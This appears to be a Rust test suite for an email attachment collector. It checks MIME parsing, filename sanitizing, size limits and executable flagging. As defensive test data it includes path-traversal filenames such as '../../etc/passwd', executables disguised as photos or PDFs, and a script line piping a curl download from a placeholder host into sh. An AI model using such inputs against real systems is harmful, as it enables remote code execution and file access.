//! Attachments through `intake::attachments::collect` on messages built
//! here (each MIME feature once) and on every message of the mail
//! fixtures.

mod common;

use mail_parser::MessageParser;
use parley::intake::attachments::{Attachment, Limits, collect, sanitize_filename};
use sha2::{Digest, Sha256};

const ROOMY: Limits = Limits {
    per_attachment: 10 << 20,
    per_message: 25 << 20,
};

fn attachments_of(raw: &str, limits: Limits) -> Vec<Attachment> {
    let message = MessageParser::default()
        .parse(raw.as_bytes())
        .expect("test message parses");
    collect(&message, limits)
}

fn b64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for (i, chunk) in bytes.chunks(3).enumerate() {
        if i > 0 && i % 19 == 0 {
            out.push_str("\r\n");
        }
        let n = chunk.len();
        let word = u32::from(chunk[0]) << 16
            | u32::from(*chunk.get(1).unwrap_or(&0)) << 8
            | u32::from(*chunk.get(2).unwrap_or(&0));
        for k in 0..4 {
            if k <= n {
                out.push(ALPHABET[(word >> (18 - 6 * k)) as usize & 63] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn sha_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A `multipart/mixed` message of a short text and `parts` (each a full
/// MIME part: headers, blank line, body).
fn mixed(parts: &[String]) -> String {
    let mut raw = String::from(
        "From: Maria <maria@example.com>\r\n\
         To: desk@example.com\r\n\
         Subject: Files\r\n\
         MIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"XXBOUNDARY\"\r\n\
         \r\n\
         --XXBOUNDARY\r\n\
         Content-Type: text/plain; charset=utf-8\r\n\
         \r\n\
         See the files.\r\n",
    );
    for part in parts {
        raw.push_str("--XXBOUNDARY\r\n");
        raw.push_str(part);
        raw.push_str("\r\n");
    }
    raw.push_str("--XXBOUNDARY--\r\n");
    raw
}

fn b64_part(headers: &str, bytes: &[u8]) -> String {
    format!(
        "{headers}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
        b64(bytes)
    )
}

const PDF: &[u8] = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89";
const JPEG: &[u8] = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9";

/// A minimal DOS/PE header: "MZ", e_lfanew at 0x3c, "PE\0\0" there.
fn pe_bytes() -> Vec<u8> {
    let mut pe = vec![0u8; 0x100];
    pe[..2].copy_from_slice(b"MZ");
    pe[2..4].copy_from_slice(b"\x90\x00");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    pe[0x84..0x86].copy_from_slice(b"\x64\x86");
    pe
}

#[test]
fn base64_pdf() {
    let raw = mixed(&[b64_part(
        "Content-Type: application/pdf; name=\"report.pdf\"\r\n\
         Content-Disposition: attachment; filename=\"report.pdf\"",
        PDF,
    )]);
    let list = attachments_of(&raw, ROOMY);
    assert_eq!(
        list,
        [Attachment {
            filename: "report.pdf".into(),
            content_type: "application/pdf".into(),
            bytes: PDF.to_vec(),
            size: PDF.len(),
            sha256: sha_hex(PDF),
            content_id: None,
            inline: false,
            flags: vec![],
        }]
    );
    // The bytes stay out of what is serialized.
    let json = serde_json::to_value(&list[0]).unwrap();
    assert!(json.get("bytes").is_none(), "{json}");
    assert_eq!(json["filename"], "report.pdf");
    assert_eq!(json["size"], PDF.len());
    assert_eq!(json["flags"], serde_json::json!([]));
}

#[test]
fn inline_cid_images_in_related_html() {
    let raw = format!(
        "From: shop@example.com\r\n\
         Subject: Newsletter\r\n\
         MIME-Version: 1.0\r\n\
         Content-Type: multipart/related; boundary=\"rel\"; type=\"text/html\"\r\n\
         \r\n\
         --rel\r\n\
         Content-Type: text/html; charset=utf-8\r\n\
         \r\n\
         <html><body><p>Lot 12</p><img src=\"cid:logo.123@Example.COM\">\r\n\
         <img src='CID:photo%40lot12'></body></html>\r\n\
         --rel\r\n\
         Content-Type: image/png\r\n\
         Content-ID: <logo.123@example.com>\r\n\
         Content-Transfer-Encoding: base64\r\n\
         \r\n\
         {png}\r\n\
         --rel\r\n\
         Content-Type: image/jpeg; name=\"lot12.jpg\"\r\n\
         Content-ID: <photo@lot12>\r\n\
         Content-Disposition: attachment; filename=\"lot12.jpg\"\r\n\
         Content-Transfer-Encoding: base64\r\n\
         \r\n\
         {jpeg}\r\n\
         --rel\r\n\
         Content-Type: image/png\r\n\
         Content-ID: <unused@example.com>\r\n\
         Content-Transfer-Encoding: base64\r\n\
         \r\n\
         {png}\r\n\
         --rel\r\n\
         Content-Type: image/jpeg; name=\"sig.jpg\"\r\n\
         Content-Disposition: inline; filename=\"sig.jpg\"\r\n\
         Content-Transfer-Encoding: base64\r\n\
         \r\n\
         {jpeg}\r\n\
         --rel--\r\n",
        png = b64(PNG),
        jpeg = b64(JPEG),
    );
    let list = attachments_of(&raw, ROOMY);
    let summary: Vec<_> = list
        .iter()
        .map(|a| {
            (
                a.filename.as_str(),
                a.content_type.as_str(),
                a.content_id.as_deref(),
                a.inline,
            )
        })
        .collect();
    assert_eq!(
        summary,
        [
            // No name: "attachment" plus the extension of its type;
            // referenced from the HTML (Content-IDs compare case-blind).
            (
                "attachment.png",
                "image/png",
                Some("logo.123@example.com"),
                true
            ),
            // Referenced through a %-escaped cid: URL, so inline although
            // its disposition says attachment.
            ("lot12.jpg", "image/jpeg", Some("photo@lot12"), true),
            // Has a Content-ID nobody references, no disposition.
            (
                "attachment.png",
                "image/png",
                Some("unused@example.com"),
                false
            ),
            // Content-Disposition: inline.
            ("sig.jpg", "image/jpeg", None, true),
        ]
    );
    assert_eq!(list[0].bytes, PNG);
    assert_eq!(list[0].sha256, sha_hex(PNG));
    assert_eq!(list[1].bytes, JPEG);
    assert!(list.iter().all(|a| a.flags.is_empty()));
}

#[test]
fn file_names() {
    let part = |headers: &str| b64_part(headers, b"content");
    let raw = mixed(&[
        part(
            "Content-Type: text/plain; name=\"passwd\"\r\n\
             Content-Disposition: attachment; filename=\"../../etc/passwd\"",
        ),
        part(
            "Content-Type: application/octet-stream\r\n\
             Content-Disposition: attachment; filename=\"..\\\\..\\\\Windows\\\\win.ini\"",
        ),
        // RFC 2231, in one piece and continued over several parameters.
        part(
            "Content-Type: application/pdf\r\n\
             Content-Disposition: attachment;\r\n filename*=UTF-8''%E2%82%AC%20r%C3%A9sum%C3%A9.pdf",
        ),
        part(
            "Content-Type: application/pdf\r\n\
             Content-Disposition: attachment;\r\n filename*0*=iso-8859-1''Rechnung%20f%FCr%20;\r\n filename*1=\"Los 12.pdf\"",
        ),
        // RFC 2047 in the Content-Type name, as Outlook and Gmail send it.
        part(
            "Content-Type: application/pdf; name=\"=?UTF-8?B?5pys5pel44Gu5YWl5pyt57WQ5p6cLnBkZg==?=\"",
        ),
        part("Content-Type: image/jpeg; name=\"=?ISO-8859-1?Q?Gr=F6=DFe_Bild.jpg?=\""),
        // What is left after sanitizing is nothing: a name from the type.
        part("Content-Type: application/pdf; name=\"...\""),
        part("Content-Type: application/x-unknown-thing; name=\"\""),
        part("Content-Type: application/octet-stream; name=\"CON.txt\""),
        part("Content-Type: application/octet-stream; name=\".htaccess\""),
        part("Content-Type: application/octet-stream; name=\"a\tb\r\n  c.txt\""),
    ]);
    let names: Vec<String> = attachments_of(&raw, ROOMY)
        .into_iter()
        .map(|a| a.filename)
        .collect();
    assert_eq!(
        names,
        [
            "passwd",
            "win.ini",
            "€ résumé.pdf",
            "Rechnung für Los 12.pdf",
            "本日の入札結果.pdf",
            "Größe Bild.jpg",
            "attachment.pdf",
            "attachment",
            "_CON.txt",
            "htaccess",
            "a b c.txt",
        ]
    );
    assert_eq!(sanitize_filename("../../etc/passwd"), "passwd");
}

#[test]
fn long_file_name_is_cut_on_a_char_boundary() {
    let name = format!("{}.pdf", "ü".repeat(300));
    let raw = mixed(&[b64_part(
        &format!(
            "Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"{name}\""
        ),
        PDF,
    )]);
    let list = attachments_of(&raw, ROOMY);
    assert!(list[0].filename.len() <= 200);
    assert!(list[0].filename.ends_with("ü.pdf"), "{}", list[0].filename);
}

#[test]
fn executables() {
    let pe = pe_bytes();
    let raw = mixed(&[
        b64_part(
            "Content-Type: application/octet-stream; name=\"setup.exe\"\r\n\
             Content-Disposition: attachment; filename=\"setup.exe\"",
            &pe,
        ),
        // A program renamed to look like a photo: only its bytes tell.
        b64_part(
            "Content-Type: image/jpeg; name=\"photo.jpg\"\r\n\
             Content-Disposition: attachment; filename=\"photo.jpg\"",
            &pe,
        ),
        // A double extension: the last one counts.
        b64_part(
            "Content-Type: application/pdf; name=\"invoice.pdf.exe\"\r\n\
             Content-Disposition: attachment; filename=\"invoice.pdf.exe\"",
            PDF,
        ),
        // Trailing dots and spaces, which Windows drops.
        b64_part(
            "Content-Type: application/pdf\r\n\
             Content-Disposition: attachment; filename=\"invoice.pdf.scr. .\"",
            PDF,
        ),
        // The declared type alone.
        b64_part(
            "Content-Type: application/x-msdownload; name=\"tool\"",
            b"not really",
        ),
        // A script by its first line, sent as text.
        "Content-Type: text/plain; charset=us-ascii; name=\"notes.txt\"\r\n\
         Content-Disposition: attachment; filename=\"notes.txt\"\r\n\
         \r\n\
         #!/bin/sh\r\n\
         curl http://example.invalid/x | sh\r\n"
            .to_string(),
        "Content-Type: application/octet-stream; name=\"Lot12.xlsm\"\r\n\r\nPK".to_string(),
        "Content-Type: application/octet-stream; name=\"catalogue.iso\"\r\n\r\nxx".to_string(),
        // Not executable: the same PDF under its own name, a double
        // extension that ends harmless, a zip.
        b64_part("Content-Type: application/pdf; name=\"invoice.pdf\"", PDF),
        b64_part("Content-Type: application/pdf; name=\"setup.exe.pdf\"", PDF),
        b64_part(
            "Content-Type: application/zip; name=\"photos.zip\"",
            b"PK\x03\x04",
        ),
    ]);
    let list = attachments_of(&raw, ROOMY);
    let flagged: Vec<(&str, bool)> = list
        .iter()
        .map(|a| (a.filename.as_str(), a.flags.contains(&"executable")))
        .collect();
    assert_eq!(
        flagged,
        [
            ("setup.exe", true),
            ("photo.jpg", true),
            ("invoice.pdf.exe", true),
            ("invoice.pdf.scr", true),
            ("tool", true),
            ("notes.txt", true),
            ("Lot12.xlsm", true),
            ("catalogue.iso", true),
            ("invoice.pdf", false),
            ("setup.exe.pdf", false),
            ("photos.zip", false),
        ]
    );
    // Flagged, not dropped: the bytes are kept for the policy stage.
    assert_eq!(list[1].bytes, pe);
    assert_eq!(list[1].content_type, "image/jpeg");
    assert_eq!(list[1].flags, ["executable"]);
}

#[test]
fn text_attachments_keep_their_bytes() {
    let raw = mixed(&[
        "Content-Type: text/plain; charset=iso-8859-1; name=\"prices.csv\"\r\n\
         Content-Disposition: attachment; filename=\"prices.csv\"\r\n\
         Content-Transfer-Encoding: quoted-printable\r\n\
         \r\n\
         Lot;Preis\r\n\
         12;100 =80 f=FCr Stra=DFe=\r\n\
         nbahn\r\n"
            .to_string(),
        "Content-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\
         Content-Transfer-Encoding: 7bit\r\n\
         \r\n\
         BEGIN:VCALENDAR\r\n\
         END:VCALENDAR"
            .to_string(),
    ]);
    let list = attachments_of(&raw, ROOMY);
    assert_eq!(list.len(), 2);
    assert_eq!(list[0].filename, "prices.csv");
    assert_eq!(list[0].content_type, "text/plain");
    // Transfer encoding undone, charset not touched: the file as sent.
    assert_eq!(
        list[0].bytes,
        b"Lot;Preis\r\n12;100 \x80 f\xfcr Stra\xdfenbahn\r\n"
    );
    assert_eq!(list[0].sha256, sha_hex(&list[0].bytes));
    assert_eq!(list[1].filename, "attachment.ics");
    assert_eq!(list[1].content_type, "text/calendar");
    assert_eq!(list[1].bytes, b"BEGIN:VCALENDAR\r\nEND:VCALENDAR");
}

const NESTED: &str = "From: Bidder <bidder@example.org>\r\n\
To: seller@example.com\r\n\
Subject: Lot 12: question\r\n\
Message-ID: <nested@example.org>\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"inner\"\r\n\
\r\n\
--inner\r\n\
Content-Type: text/plain\r\n\
\r\n\
Is lot 12 still available?\r\n\
--inner\r\n\
Content-Type: application/pdf; name=\"inner.pdf\"\r\n\
Content-Disposition: attachment; filename=\"inner.pdf\"\r\n\
Content-Transfer-Encoding: base64\r\n\
\r\n\
JVBERi0xLjQK\r\n\
--inner\r\n\
Content-Type: application/octet-stream; name=\"inner.exe\"\r\n\
Content-Transfer-Encoding: base64\r\n\
\r\n\
TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\r\n\
--inner--\r\n";

#[test]
fn nested_message_is_one_attachment() {
    let raw = mixed(&[
        format!("Content-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n{NESTED}"),
        format!(
            "Content-Type: message/rfc822; name=\"Forwarded.eml\"\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}",
            b64(NESTED.as_bytes())
        ),
        "Content-Type: message/rfc822\r\n\r\nFrom: a@example.com\r\n\r\nno subject\r\n".to_string(),
        b64_part("Content-Type: application/pdf; name=\"outer.pdf\"", PDF),
    ]);
    let list = attachments_of(&raw, ROOMY);
    let summary: Vec<(&str, &str)> = list
        .iter()
        .map(|a| (a.filename.as_str(), a.content_type.as_str()))
        .collect();
    // inner.pdf and inner.exe stay inside their message: not listed, not
    // flagged, not counted against the limits.
    assert_eq!(
        summary,
        [
            ("Lot 12_ question.eml", "message/rfc822"),
            ("Forwarded.eml", "message/rfc822"),
            ("message.eml", "message/rfc822"),
            ("outer.pdf", "application/pdf"),
        ]
    );
    for a in &list[..2] {
        let text = String::from_utf8(a.bytes.clone()).unwrap();
        assert!(text.starts_with("From: Bidder"), "{text}");
        assert!(text.contains("Is lot 12 still available?"));
        assert!(text.trim_end().ends_with("--inner--"), "{text:?}");
        assert_eq!(a.size, a.bytes.len());
        assert!(a.flags.is_empty(), "{:?}", a.flags);
    }
    // Same message, once inline and once base64: same bytes, same hash.
    assert_eq!(list[0].sha256, list[1].sha256);
}

#[test]
fn limits() {
    let blob = |n: usize, b: u8| vec![b; n];
    let raw = mixed(&[
        b64_part(
            "Content-Type: application/pdf; name=\"a.pdf\"",
            &blob(100, b'a'),
        ),
        b64_part(
            "Content-Type: application/pdf; name=\"big.pdf\"",
            &blob(300, b'b'),
        ),
        b64_part(
            "Content-Type: application/pdf; name=\"c.pdf\"",
            &blob(150, b'c'),
        ),
        b64_part(
            "Content-Type: application/pdf; name=\"d.pdf\"",
            &blob(60, b'd'),
        ),
        b64_part(
            "Content-Type: application/pdf; name=\"e.pdf\"",
            &blob(10, b'e'),
        ),
        b64_part(
            "Content-Type: application/pdf; name=\"huge.pdf\"",
            &blob(500, b'f'),
        ),
    ]);
    let limits = Limits {
        per_attachment: 200,
        per_message: 300,
    };
    let list = attachments_of(&raw, limits);
    let summary: Vec<(&str, usize, bool, Vec<&str>)> = list
        .iter()
        .map(|a| {
            (
                a.filename.as_str(),
                a.size,
                !a.bytes.is_empty(),
                a.flags.clone(),
            )
        })
        .collect();
    assert_eq!(
        summary,
        [
            ("a.pdf", 100, true, vec![]),
            // Too large on its own: metadata only, does not count.
            ("big.pdf", 300, false, vec!["too_large"]),
            ("c.pdf", 150, true, vec![]),
            // 100 + 150 + 60 would pass 300: this and all after are cut.
            ("d.pdf", 60, false, vec!["over_message_limit"]),
            ("e.pdf", 10, false, vec!["over_message_limit"]),
            (
                "huge.pdf",
                500,
                false,
                vec!["too_large", "over_message_limit"]
            ),
        ]
    );
    for a in &list {
        assert_eq!(a.sha256.is_empty(), a.bytes.is_empty(), "{}", a.filename);
        assert_eq!(a.content_type, "application/pdf");
    }
    assert_eq!(list[0].sha256, sha_hex(&blob(100, b'a')));

    // Exactly at the limits is within them.
    let exact = Limits {
        per_attachment: 100,
        per_message: 100,
    };
    let raw = mixed(&[b64_part(
        "Content-Type: application/pdf; name=\"a.pdf\"",
        &blob(100, b'a'),
    )]);
    assert!(attachments_of(&raw, exact)[0].flags.is_empty());
}

#[test]
fn no_attachments() {
    let plain = "From: a@example.com\r\nSubject: hi\r\n\r\nJust text.\r\n";
    assert!(attachments_of(plain, ROOMY).is_empty());
    let alternative = "From: a@example.com\r\nSubject: hi\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n\
        --b\r\nContent-Type: text/plain\r\n\r\nHi\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>Hi</p>\r\n--b--\r\n";
    assert!(attachments_of(alternative, ROOMY).is_empty());
}

fn fixture(path: &str) -> Vec<Attachment> {
    let raw = std::fs::read(common::fixtures::folder("mail").join(path)).unwrap();
    let message = MessageParser::default().parse(&raw).unwrap();
    collect(&message, ROOMY)
}

#[test]
fn fixtures_known_attachments() {
    let dir = "ruby_mail_gem/emails/attachment_emails";
    let pdf = fixture(&format!("{dir}/attachment_pdf.eml"));
    assert_eq!(pdf.len(), 1);
    assert_eq!(pdf[0].filename, "broken.pdf");
    assert_eq!(pdf[0].content_type, "application/pdf");
    assert!(pdf[0].bytes.starts_with(b"%PDF-1.4"));

    let jpg = fixture(&format!("{dir}/attachment_with_quoted_filename.eml"));
    assert_eq!(jpg.len(), 1);
    assert_eq!(jpg[0].filename, "Eelanalüüsi päring.jpg");
    assert!(jpg[0].inline);

    let rfc822 = fixture(&format!("{dir}/attachment_message_rfc822.eml"));
    assert_eq!(rfc822.len(), 1, "{rfc822:?}");
    assert_eq!(rfc822[0].filename, "ForwardedMessage.eml");
    assert_eq!(rfc822[0].content_type, "message/rfc822");

    let unquoted = fixture(&format!("{dir}/attachment_with_unquoted_name.eml"));
    assert_eq!(unquoted[0].filename, "This is a test.txt");

    let nonascii = fixture(&format!("{dir}/attachment_nonascii_filename.eml"));
    assert_eq!(nonascii[0].filename, "ciële.txt");

    // A bounce: the status report and the returned message.
    let bounce = fixture("ruby_mail_gem/emails/multipart_report_emails/multi_address_bounce1.eml");
    let summary: Vec<(&str, &str)> = bounce
        .iter()
        .map(|a| (a.filename.as_str(), a.content_type.as_str()))
        .collect();
    assert_eq!(
        summary,
        [
            ("attachment.txt", "message/delivery-status"),
            ("Test of bounce email.eml", "message/rfc822"),
        ]
    );

    // A multipart whose boundary never comes is no attachment.
    assert_eq!(
        fixture("ruby_mail_gem/emails/error_emails/bad_date_header2.eml"),
        []
    );
}

#[test]
fn every_fixture_without_panic() {
    let files = common::fixtures::files(&common::fixtures::folder("mail"));
    let limits = Limits {
        per_attachment: 1 << 20,
        per_message: 2 << 20,
    };
    let (mut parsed, mut count, mut bytes, mut inline, mut nested, mut executable, mut cut) =
        (0, 0, 0, 0, 0, 0, 0);
    for path in &files {
        let raw = std::fs::read(path).unwrap();
        let Some(message) = MessageParser::default().parse(&raw) else {
            continue;
        };
        parsed += 1;
        let list = collect(&message, limits);
        for a in &list {
            assert!(!a.filename.is_empty(), "{}", path.display());
            assert!(a.filename.len() <= 200);
            assert!(!a.filename.contains(['/', '\\']), "{}", a.filename);
            assert!(a.content_type.contains('/'), "{}", a.content_type);
            assert_eq!(a.content_type, a.content_type.to_lowercase());
            let over = a.flags.iter().any(|f| *f != "executable");
            if over {
                assert!(a.bytes.is_empty() && a.sha256.is_empty());
            } else {
                assert_eq!(a.sha256, sha_hex(&a.bytes));
                assert_eq!(a.size, a.bytes.len());
            }
            bytes += a.size;
            inline += usize::from(a.inline);
            nested += usize::from(a.content_type == "message/rfc822");
            executable += usize::from(a.flags.contains(&"executable"));
            cut += usize::from(a.bytes.is_empty() && a.size > 0);
        }
        count += list.len();
    }
    println!(
        "attachments over {} files ({parsed} parsed): {count} attachments, {bytes} bytes, \
         {inline} inline, {nested} nested messages, {executable} executable, {cut} over a limit",
        files.len()
    );
    assert!(parsed > 50, "only {parsed} fixture messages parsed");
    assert!(count > 10, "only {count} attachments found");
}
